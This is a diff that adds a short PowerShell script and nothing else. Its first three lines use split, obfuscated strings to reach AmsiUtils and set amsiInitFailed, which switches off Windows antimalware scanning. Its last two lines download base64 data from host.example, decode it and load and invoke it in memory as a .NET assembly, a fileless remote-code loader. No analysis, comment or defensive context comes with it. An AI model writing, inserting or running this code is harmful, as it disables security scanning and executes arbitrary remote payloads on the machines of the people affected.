@@ -1,0 +1,5 @@
+$a = [Ref].Assembly.GetType('System.Management.Automation.' + 'Am' + 'siUt' + 'ils')
+$f = $a.GetField('am' + 'siInitFa' + 'iled', 'NonPublic,Static')
+$f.SetValue($null, $true)
+$d = [Convert]::FromBase64String((irm http://host.example/a.b64))
+[System.Reflection.Assembly]::Load($d).EntryPoint.Invoke($null, @(,@()))
